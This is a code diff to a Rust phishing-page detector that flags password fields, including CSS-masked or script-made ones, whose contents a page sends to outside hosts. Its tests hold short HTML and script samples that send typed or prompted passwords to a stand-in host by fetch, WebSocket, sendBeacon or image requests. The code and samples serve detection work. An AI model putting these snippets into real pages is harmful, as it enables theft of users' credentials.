@@ -1,12 +1,15 @@
 //! Pages that ask for a password and send it to a server, and where pages lead by themselves.
 
+use std::borrow::Cow;
+use std::collections::BTreeSet;
 use std::sync::LazyLock;
 
-use aho_corasick::{AhoCorasick, MatchKind};
+use memchr::memmem;
 
 use super::place::{Place, plain};
 use super::{Analyzer, Findings, Found, Look, Sees};
 use crate::formats::html::{self, Page, Tag};
+use crate::formats::page_sends::Sends;
 use crate::model::{Family, IocType, Kind};
 use crate::text::{self, AnyOf};
 
@@ -20,117 +23,30 @@ pub(super) const ROW: Analyzer = Analyzer {
 };
 
 /// Tags that are looked at.
-const READ: &[&str] = &["input", "form", "button", "base", "meta", "iframe", "frame"];
+const READ: &[&str] = &[
+    "input", "textarea", "form", "button", "base", "meta", "iframe", "frame",
+];
+
+/// A property of CSS with which letters look like those of a password.
+const MASKED: &str = "text-security";
 
 /// What a page says, in lower case, that asks for a password or leads somewhere.
 static ASKS: LazyLock<AnyOf> = LazyLock::new(|| {
     AnyOf::new(&[
-        "passw", "pswd", "\"pass\"", "refresh", "<iframe", "<form", "location",
+        "passw",
+        "pswd",
+        "\"pass\"",
+        "'word'",
+        "\"word\"",
+        "refresh",
+        "<iframe",
+        "<form",
+        "location",
+        "prompt(",
+        MASKED,
+        "textsecurity",
     ])
 });
-
-/// What a script says where it goes somewhere or sends something.
-#[derive(Clone, Copy)]
-struct Word {
-    text: &'static str,
-    /// An address behind it is where it leads.
-    leads: bool,
-    /// It sends something.
-    sends: bool,
-    /// What it is besides.
-    role: Role,
-}
-
-/// What else a word shows.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Role {
-    None,
-    /// A field is made one for passwords.
-    Made,
-    /// A picture is asked for.
-    Picture,
-}
-
-const fn word(text: &'static str, leads: bool, sends: bool) -> Word {
-    Word {
-        text,
-        leads,
-        sends,
-        role: Role::None,
-    }
-}
-
-const fn of_role(text: &'static str, role: Role) -> Word {
-    Word {
-        role,
-        ..word(text, false, false)
-    }
-}
-
-/// Of words that start alike, the longer stands first.
-const WORDS: &[Word] = &[
-    word("location.href", true, false),
-    word("location=", true, false),
-    word("location =", true, false),
-    word("location.replace(", true, false),
-    word("location.assign(", true, false),
-    word("fetch(", true, true),
-    word(".open(", true, false),
-    word("url:", true, false),
-    word("$.post(", true, true),
-    word("sendBeacon(", true, true),
-    word("axios.post(", true, true),
-    word("XMLHttpRequest", false, true),
-    word("$.ajax", false, true),
-    word("$.post", false, true),
-    word("axios", false, true),
-    word("sendBeacon", false, true),
-    word("api.telegram.org", false, true),
-    of_role("setAttribute(\"type\",\"password\")", Role::Made),
-    of_role("setAttribute('type','password')", Role::Made),
-    of_role("setAttribute(\"type\", \"password\")", Role::Made),
-    of_role("setAttribute('type', 'password')", Role::Made),
-    of_role(".type=\"password\"", Role::Made),
-    of_role(".type='password'", Role::Made),
-    of_role(".type = \"password\"", Role::Made),
-    of_role(".type = 'password'", Role::Made),
-    of_role(".src=", Role::Picture),
-    of_role(".src =", Role::Picture),
-];
-
-static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
-    let mut builder = AhoCorasick::builder();
-    let builder = builder.match_kind(MatchKind::LeftmostFirst);
-    builder.build(WORDS.iter().map(|word| word.text)).ok()
-});
-
-/// Where each of [`WORDS`] ends in a text, the first 32 times.
-struct Words(Vec<Vec<usize>>);
-
-impl Words {
-    fn of(source: &str) -> Self {
-        const MOST: usize = 32;
-        let mut ends = vec![Vec::new(); WORDS.len()];
-        for found in FINDER.iter().flat_map(|finder| finder.find_iter(source)) {
-            let list = ends.get_mut(found.pattern().as_usize());
-            if let Some(list) = list.filter(|list| list.len() < MOST) {
-                list.push(found.end());
-            }
-        }
-        Self(ends)
-    }
-
-    /// The words with the places where they end.
-    fn each(&self) -> impl Iterator<Item = (&'static Word, &[usize])> {
-        WORDS.iter().zip(self.0.iter().map(Vec::as_slice))
-    }
-
-    /// Whether something is sent.
-    fn send(&self) -> bool {
-        self.each()
-            .any(|(word, ends)| word.sends && !ends.is_empty())
-    }
-}
 
 fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
     let artifact = look.artifact;
@@ -155,135 +71,312 @@ fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
         return;
     }
     let source = page.text();
-    let mut password = None;
-    let mut target = None;
-    let (mut base, mut by_base) = (None, false);
-    for tag in page.tags_named(READ) {
-        match tag.name.as_ref() {
-            "input" if is_password(&tag) => {
-                password.get_or_insert(tag.at);
-            }
-            "form" | "button" | "input" => {
-                let name = if tag.name == "form" {
-                    "action"
-                } else {
-                    "formaction"
-                };
-                let action = tag.attribute(name);
-                let action = action.as_deref();
-                if let Some(address) = action.and_then(|value| outside(look, value)) {
-                    findings.ioc(IocType::Url, &address);
-                    target.get_or_insert(address);
-                } else if let Some(address) = action.filter(|value| is_mail(value)) {
-                    target.get_or_insert(plain(address));
-                }
-                by_base |= tag.name == "form" && action.is_none_or(|value| !value.starts_with('#'));
-            }
-            // Where every address of the page that names no host leads (HTML Standard, 4.2.3).
-            "base" => {
-                let address = tag.attribute("href");
-                let address = address.and_then(|value| outside(look, &value));
-                base = base.or(address);
-            }
-            "meta" => {
-                if let Some(address) = html::refresh(&tag).and_then(|value| outside(look, &value)) {
-                    findings.ioc(IocType::Url, &address);
-                }
-            }
-            "iframe" | "frame" => {
-                if let Some(address) = tag.attribute("src").and_then(|value| outside(look, &value))
-                {
-                    findings.ioc(IocType::Url, &address);
-                }
-            }
-            _ => {}
-        }
-    }
-    if let Some(base) = base.filter(|_| by_base) {
-        findings.ioc(IocType::Url, &base);
-        target.get_or_insert(base);
-    }
-    let words = Words::of(source);
-    let mut sent = scripted(look, source, &words);
-    if password.is_none() {
-        password = password_by_script(&words);
-    }
-    let shown = asked_for(look, source, &words);
-    let posts = words.send() || !shown.is_empty();
+    let Written { password, target } = Written::of(look, &page, findings);
+    let sends = Sends::of(source);
+    let mut sent = scripted(look, &sends);
+    let shown: Vec<String> = sends
+        .pictures()
+        .chain(sends.fetched())
+        .filter_map(|text| outside(look, text))
+        .collect();
+    let mut posts = sends.send() || !shown.is_empty();
     sent.extend(shown);
     for address in &sent {
         findings.ioc(IocType::Url, address);
     }
+    let prompted = prompted(look, &sends);
+    posts |= prompted.is_some();
+    let password = password
+        .or_else(|| sends.password_field())
+        .or(prompted)
+        .or_else(|| password_in_scripts(look));
     let Some(at) = password else {
         return;
     };
-    if target.is_none() && sent.is_empty() {
+    let mut handed: Vec<String> = Vec::new();
+    if target.is_none() && (!posts || sent.is_empty()) {
+        let addresses = sends.handed().into_iter();
+        handed.extend(addresses.filter_map(|text| outside(look, text)));
+        for address in &handed {
+            findings.ioc(IocType::Url, address);
+        }
+    }
+    if target.is_none() && sent.is_empty() && handed.is_empty() {
         sent = in_scripts(look);
     }
-    let Some(target) = target.or_else(|| sent.into_iter().next().filter(|_| posts)) else {
+    let target = target
+        .or_else(|| handed.into_iter().next())
+        .or_else(|| sent.into_iter().next().filter(|_| posts))
+        .or_else(|| collector(look, &page));
+    let Some(target) = target else {
         return;
     };
     findings.report(Found::new("credential-form", &format!("password sent to {target}")).at(at));
 }
 
+/// What the tags of a page ask for, and where they send it.
+struct Written {
+    /// Where a field for a password stands.
+    password: Option<usize>,
+    /// Where a form leads outside.
+    target: Option<String>,
+}
+
+impl Written {
+    /// Addresses that the page leads to are kept on the way.
+    fn of(look: &Look<'_>, page: &Page, findings: &mut Findings<'_>) -> Self {
+        let asked = Asked::of(look, page);
+        let mut password = None;
+        let mut target = None;
+        let (mut base, mut by_base) = (None, false);
+        for tag in asked.tags(page) {
+            if password.is_none() && asked.is_password(&tag) {
+                password = Some(tag.at);
+            }
+            match tag.name.as_ref() {
+                "form" | "button" | "input" => {
+                    let name = if tag.name == "form" {
+                        "action"
+                    } else {
+                        "formaction"
+                    };
+                    let action = tag.attribute(name);
+                    let action = action.as_deref();
+                    if let Some(address) = action.and_then(|value| outside(look, value)) {
+                        findings.ioc(IocType::Url, &address);
+                        target.get_or_insert(address);
+                    } else if let Some(address) = action.filter(|value| is_mail(value)) {
+                        target.get_or_insert(plain(address));
+                    }
+                    by_base |=
+                        tag.name == "form" && action.is_none_or(|value| !value.starts_with('#'));
+                }
+                // Where every address of the page that names no host leads (HTML Standard, 4.2.3).
+                "base" => {
+                    let address = tag.attribute("href");
+                    let address = address.and_then(|value| outside(look, &value));
+                    base = base.or(address);
+                }
+                "meta" => {
+                    if let Some(address) =
+                        html::refresh(&tag).and_then(|value| outside(look, &value))
+                    {
+                        findings.ioc(IocType::Url, &address);
+                    }
+                }
+                "iframe" | "frame" => {
+                    if let Some(address) =
+                        tag.attribute("src").and_then(|value| outside(look, &value))
+                    {
+                        findings.ioc(IocType::Url, &address);
+                    }
+                }
+                _ => {}
+            }
+        }
+        if let Some(base) = base.filter(|_| by_base) {
+            findings.ioc(IocType::Url, &base);
+            target.get_or_insert(base);
+        }
+        Self { password, target }
+    }
+}
+
+/// Where a script asks for a password in a window of its own.
+fn prompted(look: &Look<'_>, sends: &Sends<'_>) -> Option<usize> {
+    let mut asked = sends.prompts();
+    let found = asked.find(|(_, text)| says_secret(look, text));
+    found.map(|(at, _)| at)
+}
+
+/// A service that takes what pages of others send it, where one is named in the page.
+fn collector(look: &Look<'_>, page: &Page) -> Option<String> {
+    let lower = page.lower().as_bytes();
+    let services = &look.knowledge.links.collectors;
+    let mut named = services
+        .iter()
+        .filter(|name| memmem::find(lower, name.as_bytes()).is_some());
+    named.next().cloned()
+}
+
+/// Where a script that the page's scripts put together makes a field one for passwords: at the start of the page.
+fn password_in_scripts(look: &Look<'_>) -> Option<usize> {
+    let made = built(look).any(|source| Sends::of(&source).password_field().is_some());
+    made.then_some(0)
+}
+
 /// Addresses in what the page's scripts put together.
 fn in_scripts(look: &Look<'_>) -> Vec<String> {
+    built(look)
+        .flat_map(|source| scripted(look, &Sends::of(&source)))
+        .collect()
+}
+
+/// What the page's scripts put together.
+fn built<'a>(look: &Look<'a>) -> impl Iterator<Item = Cow<'a, str>> {
     /// Scripts that are looked at: pages that steal something have one or two.
     const SCRIPTS: usize = 16;
-    let below = |artifact| Look { artifact, ..*look }.children();
+    let look = *look;
+    let below = move |artifact| Look { artifact, ..look }.children();
     let scripts = below(look.artifact)
         .iter()
         .filter(|child| child.via == Some("script-block"));
     let built = scripts
         .take(SCRIPTS)
-        .flat_map(|script| below(script).iter().take(SCRIPTS));
+        .flat_map(move |script| below(script).iter().take(SCRIPTS));
     built
         .filter(|child| child.kind == Kind::Js)
-        .flat_map(|child| {
-            let source = text::to_utf8(&child.data);
-            scripted(look, &source, &Words::of(&source))
-        })
-        .collect()
+        .map(|child| text::to_utf8(&child.data))
 }
 
-/// A field for a password, also one that only looks like another.
-fn is_password(tag: &Tag<'_>) -> bool {
-    let value = |name| tag.attribute(name).unwrap_or_default().to_ascii_lowercase();
-    let kind = value("type");
-    if kind == "password" {
-        return true;
-    }
-    if matches!(kind.as_str(), "" | "text" | "tel" | "number") && asks_for_secret(tag) {
-        return true;
-    }
-    let named = ["name", "id", "placeholder"]
-        .iter()
-        .any(|name| value(name).contains("passw"));
-    named && matches!(kind.as_str(), "" | "text") && value("style").contains("text-security")
+/// What tells a field for a password on one page.
+struct Asked<'a> {
+    look: Look<'a>,
+    page: &'a Page,
+    /// Names of classes and fields whose letters CSS hides, and of elements where it hides those of all.
+    masked: BTreeSet<String>,
+    /// Whether CSS or a script hides letters anywhere.
+    masks: bool,
 }
 
-/// Whether a field in plain sight asks for what nobody sends in a form of a mail: what browsers would fill into it (HTML
-/// Standard, 4.10.18.7 "Autofill"), or what it says itself.
-fn asks_for_secret(tag: &Tag<'_>) -> bool {
-    const FILLED: [&str; 4] = ["current-password", "new-password", "cc-number", "cc-csc"];
-    const SAID: [&str; 9] = [
-        "password",
-        "passcode",
-        "パスワード",
-        "暗証番号",
-        "カード番号",
-        "セキュリティコード",
-        "card number",
-        "security code",
-        "cvv",
-    ];
-    let filled = tag.attribute("autocomplete").unwrap_or_default();
-    let mut filled = filled.split_ascii_whitespace();
-    filled.any(|token| FILLED.iter().any(|one| token.eq_ignore_ascii_case(one)))
-        || ["placeholder", "aria-label"].iter().any(|name| {
-            let said = tag.attribute(name).unwrap_or_default().to_lowercase();
-            SAID.iter().any(|word| said.contains(word))
-        })
+impl<'a> Asked<'a> {
+    fn of(look: &Look<'a>, page: &'a Page) -> Self {
+        /// Rules of CSS that are looked at, and bytes of what one is for.
+        const RULES: usize = 16;
+        const SELECTOR: usize = 200;
+        let lower = page.lower();
+        let mut masked = BTreeSet::new();
+        let mut masks = false;
+        for at in memmem::find_iter(lower.as_bytes(), MASKED).take(RULES) {
+            masks = true;
+            let before = lower.get(..at).unwrap_or_default();
+            let Some(open) = before.rfind(['{', '}', '<', '"', '\'']) else {
+                continue;
+            };
+            if !before.get(open..).is_some_and(|rest| rest.starts_with('{')) {
+                continue;
+            }
+            let before = before.get(..open).unwrap_or_default();
+            let from = before.ceil_char_boundary(before.len().saturating_sub(SELECTOR));
+            let selector = before.get(from..).unwrap_or_default();
+            let selector = selector.rsplit(['}', '>', ';', '/']).next();
+            let names = selector
+                .unwrap_or_default()
+                .split(|c: char| !c.is_alphanumeric() && c != '-' && c != '_');
+            masked.extend(names.filter(|name| !name.is_empty()).map(str::to_owned));
+        }
+        masks |= memmem::find(lower.as_bytes(), b"webkittextsecurity").is_some();
+        Self {
+            look: *look,
+            page,
+            masked,
+            masks,
+        }
+    }
+
+    /// The tags that are looked at: what CSS hides may be typed into any.
+    fn tags(&self, page: &'a Page) -> Box<dyn Iterator<Item = Tag<'a>> + 'a> {
+        if self.masks {
+            Box::new(page.tags())
+        } else {
+            Box::new(page.tags_named(READ))
+        }
+    }
+
+    /// A field for a password, also one that only looks like another.
+    fn is_password(&self, tag: &Tag<'_>) -> bool {
+        let value = |name| tag.attribute(name).unwrap_or_default().to_ascii_lowercase();
+        let kind = value("type");
+        let kind = kind.trim().trim_end_matches('/');
+        let input = tag.name == "input";
+        if input && kind == "password" {
+            return true;
+        }
+        let typed = match tag.name.as_ref() {
+            "input" => matches!(kind, "" | "text" | "tel" | "number"),
+            "textarea" => true,
+            _ => self.masks && tag.attribute("contenteditable").is_some(),
+        };
+        if !typed {
+            return false;
+        }
+        self.is_masked(tag) || input && (self.asks_for_secret(tag) || self.is_labelled(tag))
+    }
+
+    /// Whether CSS hides the letters of a field as those of a password.
+    fn is_masked(&self, tag: &Tag<'_>) -> bool {
+        if !self.masks {
+            return false;
+        }
+        let value = |name| tag.attribute(name).unwrap_or_default().to_ascii_lowercase();
+        let style = value("style");
+        let own = style.split_once(MASKED);
+        if let Some((_, set)) = own {
+            return !set.trim_start_matches([' ', ':']).starts_with("none");
+        }
+        let named = |name: &str| self.masked.contains(name);
+        // A script that hides them does so for a field that it finds by its name.
+        named(&tag.name)
+            || named(&value("id"))
+            || named(&value("name"))
+            || value("class").split_whitespace().any(named)
+            || self.masked.is_empty() && says_secret(&self.look, &value("name"))
+    }
+
+    /// Whether a field in plain sight asks for what nobody sends in a form of a mail: what browsers would fill into it
+    /// (HTML Standard, 4.10.18.7 "Autofill"), or what it says itself.
+    fn asks_for_secret(&self, tag: &Tag<'_>) -> bool {
+        const FILLED: [&str; 4] = ["current-password", "new-password", "cc-number", "cc-csc"];
+        let filled = tag.attribute("autocomplete").unwrap_or_default();
+        let mut filled = filled.split_ascii_whitespace();
+        filled.any(|token| FILLED.iter().any(|one| token.eq_ignore_ascii_case(one)))
+            || ["placeholder", "aria-label"].iter().any(|name| {
+                let said = tag.attribute(name).unwrap_or_default();
+                says_secret(&self.look, &said)
+            })
+    }
+
+    /// Whether what stands in front of a field is the word for a password, and nothing else.
+    fn is_labelled(&self, tag: &Tag<'_>) -> bool {
+        /// Bytes in front of a field that may be its label with its tags.
+        const LABEL: usize = 160;
+        let source = self.page.text();
+        let before = source.get(..tag.at).unwrap_or_default();
+        let from = before.ceil_char_boundary(before.len().saturating_sub(LABEL));
+        let before = before.get(from..).unwrap_or_default();
+        let mut texts = before.rsplit('<').filter_map(|piece| {
+            let text = piece.rsplit('>').next().unwrap_or_default();
+            let text = text.trim_matches(|c: char| !c.is_alphanumeric() && c != 'ー');
+            (!text.is_empty() && piece.contains('>')).then_some(text)
+        });
+        // Another field in between has this text for its label.
+        let nearest = texts.next().unwrap_or_default();
+        let at = before.rfind(nearest).unwrap_or_default();
+        let between = before.get(at..).unwrap_or_default().to_ascii_lowercase();
+        let said = shown_letters(nearest);
+        !between.contains("<input") && self.look.knowledge.links.secrets.contains(&said)
+    }
+}
+
+/// Letters of a text in lower case, without those that nobody sees, in the letters that they look like.
+fn shown_letters(text: &str) -> String {
+    let seen = text.chars().filter(|c| {
+        !matches!(
+            c,
+            '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}'
+        )
+    });
+    text::plain_letters(&seen.collect::<String>())
+}
+
+/// Whether a text asks for what nobody else is to know.
+fn says_secret(look: &Look<'_>, said: &str) -> bool {
+    if said.is_empty() {
+        return false;
+    }
+    let said = shown_letters(said);
+    let mut secrets = look.knowledge.links.secrets.iter();
+    secrets.any(|word| said.contains(word.as_str()))
 }
 
 /// Whether a form is sent by mail.
@@ -292,80 +385,28 @@ fn is_mail(action: &str) -> bool {
     scheme.is_some_and(|scheme| scheme.eq_ignore_ascii_case("mailto:"))
 }
 
-/// Where a script makes a field one for passwords.
-fn password_by_script(words: &Words) -> Option<usize> {
-    let mut made = words.each().filter(|(word, _)| word.role == Role::Made);
-    made.find_map(|(word, ends)| ends.first()?.checked_sub(word.text.len()))
-}
-
-/// Addresses that scripts ask for as a picture, with something behind them.
-fn asked_for(look: &Look<'_>, source: &str, words: &Words) -> Vec<String> {
-    let mut found = Vec::new();
-    let pictures = words.each().filter(|(word, _)| word.role == Role::Picture);
-    for (_, ends) in pictures {
-        for end in ends {
-            let rest = source.get(*end..).unwrap_or_default();
-            let near = rest.get(..rest.floor_char_boundary(400)).unwrap_or(rest);
-            let near = near.trim_start();
-            let literal = near
-                .starts_with(['"', '\'', '`'])
-                .then(|| quoted(near).next())
-                .flatten();
-            let address = literal.filter(|text| text.ends_with('=') || text.contains("=${"));
-            let address = address.filter(|text| !is_program(text) || is_given(near));
-            found.extend(address.and_then(|text| outside(look, text)));
-        }
-    }
-    found
-}
-
-/// Whether an address is that of a script: pages load those of others with a number of their own behind them.
-fn is_program(address: &str) -> bool {
-    let path = address.split('?').next().unwrap_or_default();
-    path.ends_with(".js")
-}
-
-/// Whether what stands behind an address is what somebody typed.
-fn is_given(statement: &str) -> bool {
-    let statement = statement.split([';', '\n']).next().unwrap_or_default();
-    let typed = ["value", "val(", "pass", "pwd"];
-    typed.iter().any(|word| statement.contains(word))
-}
-
 /// An address on the web, in the form in which it is fetched.
 fn outside(look: &Look<'_>, value: &str) -> Option<String> {
     let target = plain(value);
-    let protocol_relative = target.starts_with("//");
-    let web = Place::of(&target, &look.knowledge.links) == Place::Web;
-    (web || protocol_relative).then_some(target)
+    let protocol_relative = target.starts_with("//") || target.starts_with("/\\");
+    let scheme = target.split_once("://").map_or("", |(scheme, _)| scheme);
+    let socket = ["ws", "wss"]
+        .iter()
+        .any(|one| scheme.eq_ignore_ascii_case(one));
+    let web = || Place::of(&target, &look.knowledge.links) == Place::Web;
+    (protocol_relative || socket || web()).then_some(target)
 }
 
 /// Addresses to which a script of the page goes or sends something.
-fn scripted(look: &Look<'_>, source: &str, words: &Words) -> Vec<String> {
+fn scripted(look: &Look<'_>, sends: &Sends<'_>) -> Vec<String> {
     let mut found: Vec<String> = Vec::new();
-    for (_, ends) in words.each().filter(|(word, _)| word.leads) {
-        for end in ends {
-            let rest = source.get(*end..).unwrap_or_default();
-            let near = rest.get(..rest.floor_char_boundary(400)).unwrap_or(rest);
-            // The first text behind it, or the second where the first is a method.
-            let address = quoted(near).find_map(|text| outside(look, text));
-            if let Some(address) = address.filter(|address| !found.contains(address)) {
-                found.push(address);
-            }
+    for mut texts in sends.leads() {
+        let address = texts.find_map(|text| outside(look, text));
+        if let Some(address) = address.filter(|address| !found.contains(address)) {
+            found.push(address);
         }
     }
     found
-}
-
-/// The first two texts in quotation marks of any kind; the last mark may lie beyond the end.
-fn quoted(text: &str) -> impl Iterator<Item = &str> {
-    let mut marks = memchr::memchr3_iter(b'"', b'\'', b'`', text.as_bytes());
-    std::iter::from_fn(move || {
-        let start = marks.next()?.saturating_add(1);
-        let end = marks.next().unwrap_or(text.len());
-        text.get(start..end)
-    })
-    .take(2)
 }
 
 #[cfg(test)]
@@ -393,6 +434,20 @@ mod tests {
             "<form action='https://login.example.invalid/'><input autocomplete='section-a cc-csc'></form>",
             "<form action=https&colon;//login.example.invalid/><input type=&#112assword></form>",
             "<input type=password id=p><script>s.src = 'https://login.example.invalid/a.js?p=' + p.value</script>",
+            "<input type=password><script>s = new WebSocket('wss://login.example.invalid/s')</script>",
+            "<input type=password id=p><script>$.get('https://login.example.invalid/', {p: $('#p').val()})</script>",
+            "<input type=password><script>navigator['sendBeacon']('https://login.example.invalid/', d)</script>",
+            "<form id=f><input type=password></form><script>f.action = 'https://login.example.invalid/'</script>",
+            "<form id=f><input type=password></form><script>f.setAttribute('action', 'https://login.example.invalid/')</script>",
+            "<form id=f><input type=password></form><script>const to = 'https://login.example.invalid/'; f.action = to</script>",
+            "<input type=password id=p><script>location.href = 'https://login.example.invalid/?p=' + p.value</script>",
+            "<script>a = prompt('Your password'); fetch('https://login.example.invalid/?p=' + a)</script>",
+            "<style>.x{-webkit-text-security:disc}</style><form action='https://login.example.invalid/'><input class=x></form>",
+            "<form action='https://login.example.invalid/'><input style='-webkit-text-security: disc'></form>",
+            "<form action='https://login.example.invalid/'><input placeholder='Pass&shy;word'></form>",
+            "<form action='https://login.example.invalid/'><label>Pa\u{455}sword:</label><br><input name=b></form>",
+            "<form action='/\\login.example.invalid/'><input type=password/></form>",
+            "<script>i = h('input', {type: 'password'}); fetch('https://login.example.invalid/')</script>",
         ] {
             assert_eq!(found(page), (1, 1), "{page}");
         }
@@ -406,6 +461,13 @@ mod tests {
             "<form><input type=password></form>",
             "<base href=\"https://www.example.com/\"><form action=search><input name=q></form>",
             "<base href=\"/app/\"><form action=p><input type=password></form>",
+            "<form action=/in><input type=password></form><script>$.get('https://www.example.com/news.json', show); p.value = 1</script>",
+            "<script>a = prompt('Your name'); fetch('https://www.example.com/?n=' + a)</script>",
+            "<p>Do not use prompt('password').</p><a href='https://www.example.com/'>a</a>",
+            "<form id=f><input name=q></form><script>f.action = 'https://www.example.com/search'</script>",
+            "<style>.x{-webkit-text-security:disc}</style><form action='https://www.example.com/'><input class=y></form>",
+            "<form action='https://www.example.com/'><p>Forgot your password?</p><label>Mail</label><input name=mail></form>",
+            "<form action='https://www.example.com/'>Password<input type=hidden><input name=q></form>",
             "<input type=password><script>logo.src = 'https://www.example.com/logo.png'</script>",
             "<form action=/in><input type=password></form><script>j.src = 'https://www.example.com/tags.js?id=' + i + dl; p.value = 1</script>",
         ] {
@@ -414,24 +476,18 @@ mod tests {
     }
 
     #[test]
-    fn words_are_found_where_they_stand_and_are_what_their_rows_say() {
-        let of = |text: &str| {
-            let words = Words::of(text);
-            let found = words.each().filter(|(_, ends)| !ends.is_empty());
-            found
-                .map(|(word, ends)| (word.text, ends.to_vec()))
-                .collect::<Vec<_>>()
+    fn services_that_take_what_pages_send_are_known() {
+        let page = |script: &str| {
+            found(&format!(
+                "<form action=/in><input type=password id=p></form><script>{script}</script>"
+            ))
         };
-        let words = Words::of("axios.post('/a'); a.type='password'; $.ajax; $.post(b)");
-        assert_eq!(of("axios.post('/a')"), [("axios.post(", vec![11])]);
-        assert_eq!(password_by_script(&words), Some(19));
-        assert!(words.send() && !Words::of("x.src = location.href").send());
-        // Every word is found where it stands alone.
-        for word in WORDS {
-            assert_eq!(of(word.text), [(word.text, vec![word.text.len()])]);
-            assert_eq!(word.role == Role::Made, word.text.contains("password"));
-            assert_eq!(word.role == Role::Picture, word.text.contains(".src"));
-        }
+        assert_eq!(page("emailjs.send('a', 'b', {p: p.value})").0, 1);
+        assert_eq!(page("emailjs.init('a')").0, 0);
+        assert_eq!(
+            found("<script>emailjs.send('a', 'b', {q: q.value})</script>").0,
+            0
+        );
     }
 
     #[test]
@@ -442,15 +498,6 @@ mod tests {
             found("<form action=\"mailto:a@example.invalid\"><input name=q></form>").0,
             0
         );
-    }
-
-    #[test]
-    fn texts_in_quotation_marks_are_the_first_two() {
-        let texts = |text| quoted(text).collect::<Vec<_>>();
-        assert_eq!(texts("('POST', \"https://a\", `b`)"), ["POST", "https://a"]);
-        assert_eq!(texts(" = \"あ'い"), ["あ"]);
-        assert_eq!(texts("'' + 'open"), ["", "open"]);
-        assert!(texts("none").is_empty());
     }
 
     #[test]
